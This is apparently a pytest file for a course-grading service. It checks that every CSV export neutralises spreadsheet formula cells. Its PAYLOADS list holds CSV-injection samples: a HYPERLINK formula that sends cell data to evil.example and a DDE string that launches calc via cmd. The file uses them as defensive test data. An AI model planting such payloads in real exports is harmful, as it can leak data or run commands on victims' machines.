"""Every CSV the service offers is safe to open in a spreadsheet (submissions/csv_cells.py):
names, e-mails, roster ids, reasons and the text of a failed check that start with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return are never a formula cell (the OWASP rule),
on SQLite and PostgreSQL, through the API and the staff pages."""

from __future__ import annotations

import csv
import dataclasses
import io
from typing import Any

from fastapi.testclient import TestClient

from submissions.csv_cells import FORMULA_TRIGGERS, safe_cell
from submissions.grading import CheckResult

from ..helpers import INSTRUCTOR_TOKEN, grade_next, instructor_headers, kernel_source, make_outcome, upload
from ..pages.test_pages import sign_in

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_each_trigger_and_leaves_the_rest() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("ada") == "ada" and safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, where: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(FORMULA_TRIGGERS), f"{where}: formula cell {cell!r}"


def test_every_export_neutralises_formula_cells(client: TestClient, db_session: Any) -> None:
    tokens = []
    for index, payload in enumerate(PAYLOADS):
        created = client.post("/api/v1/students", headers=instructor_headers(), json={
            "name": f"{payload} {index}" if payload[0] in "\t\r" else f"{payload}{index}",
            "external_id": f"{payload}#{index}"})
        assert created.status_code == 201, created.text
        tokens.append(created.json()["token"])
    hostile_check = CheckResult(
        name="autograd_fp32", passed=False, skipped=False, numbers={"details": {"hint": PAYLOADS[0]}},
        message=f"(4, 8) float32: raised ValueError: x. Hint: {PAYLOADS[3]}")
    for token in tokens:
        assert upload(client, token, kernel_source()).status_code == 202
        grade_next(db_session, dataclasses.replace(make_outcome("failed"), checks=[hostile_check]))
    roster_csv = io.StringIO()
    csv.writer(roster_csv).writerows([("name", "email", "id"), *((f"{p.strip()}r{i}", "", f"{p.strip()}#r{i}")
                                                              for i, p in enumerate(PAYLOADS))])
    roster = client.post("/api/v1/students/import?format=csv", content=roster_csv.getvalue(),
                         headers={**instructor_headers(), "Content-Type": "text/csv"})
    assert roster.status_code == 200, roster.text
    exports = {
        "roster tokens": roster.text,
        "lms": client.get("/api/v1/assignments/softmax_backward/export/lms", headers=instructor_headers()).text,
        "canvas": client.get("/api/v1/assignments/export/canvas", headers=instructor_headers()).text,
        "moodle": client.get("/api/v1/assignments/export/moodle", headers=instructor_headers()).text,
        "leaderboard": client.get("/api/v1/leaderboard/softmax_backward?format=csv", headers=instructor_headers()).text,
    }
    sign_in(client, INSTRUCTOR_TOKEN)
    analytics = client.get("/staff/analytics.csv?assignment=softmax_backward")
    assert analytics.status_code == 200, analytics.text
    exports["analytics"] = analytics.text
    for where, text in exports.items():
        _assert_safe(text, where)
    # The names are there, as text a spreadsheet shows.
    assert any(cell == "'" + PAYLOADS[0] + "0" for cell in _cells(exports["lms"]))
    assert "'" + PAYLOADS[0] in _cells(exports["analytics"])  # the structured hint, neutralised
    assert PAYLOADS[3] not in exports["analytics"]  # never a hint split out of the message
